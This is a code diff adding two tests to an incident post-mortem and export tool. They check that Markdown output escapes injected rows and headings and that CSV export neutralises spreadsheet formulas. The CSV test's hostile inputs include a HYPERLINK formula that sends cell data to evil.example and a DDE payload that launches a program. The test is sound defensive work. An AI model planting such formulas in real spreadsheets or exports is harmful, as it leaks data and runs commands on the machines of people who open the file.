@@ -177,6 +177,20 @@ def test_a_title_cannot_break_the_markdown_table_or_inject_html() -> None:
     assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; | pipe" in page
 
 
+def test_no_text_of_an_incident_breaks_the_markdown_rows_or_headings() -> None:
+    bundle = _bundle(title="Brute force\n## Injected heading", commander="ana\r| injected | row |")
+    bundle.timeline.append({"time": T0, "actor": "alice", "summary": "Login\r| injected | row | here"})
+    bundle.actions[0]["item"] = "10.0.0.1|evil"
+    bundle.actions[0]["approved_by"] = "bob\n# heading"
+    text = postmortem(bundle, fmt="md", sla=DEFAULT_SLA, now=NOW)
+    lines = text.splitlines()
+    assert lines[0] == "# Post-mortem: Brute force ## Injected heading"
+    assert not [line for line in lines if line.startswith(("## Injected", "# heading"))]
+    assert not [line for line in lines if line.startswith("| injected")]
+    assert "| Login \\| injected \\| row \\| here |" in text
+    assert "| 10.0.0.1\\|evil |" in text and "| bob # heading |" in text
+
+
 def test_the_html_post_mortem_embeds_its_charts() -> None:
     later = NOW + timedelta(hours=1)
     page = postmortem(_bundle(state="contained", resolved_at=None), fmt="html", sla=DEFAULT_SLA, now=later)
@@ -259,6 +273,21 @@ def test_csv_export_flattens_lists_and_times() -> None:
     [row] = list(csv.DictReader(text.splitlines()))
     assert (row["id"], row["hosts"], row["acknowledged_at"]) == ("inc-1", '["db-01"]', "2026-11-24T09:10:30+00:00")
     assert row["recovered_at"] == ""
+
+
+def test_csv_export_never_hands_a_spreadsheet_a_formula() -> None:
+    hostile = {
+        **_incident(),
+        "title": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "commander": "+cmd|' /C calc'!A0",
+        "hosts": ["@SUM(1+1)"],
+        "alert_count": -1,
+    }
+    [row] = list(csv.DictReader(to_csv([hostile], EXPORT_COLUMNS["incidents"]).splitlines()))
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+    assert row["commander"] == "'+cmd|' /C calc'!A0"
+    assert row["hosts"] == '["@SUM(1+1)"]'  # JSON text starts with its bracket
+    assert row["alert_count"] == "-1"  # a number is no formula
 
 
 @pytest.fixture(scope="module")
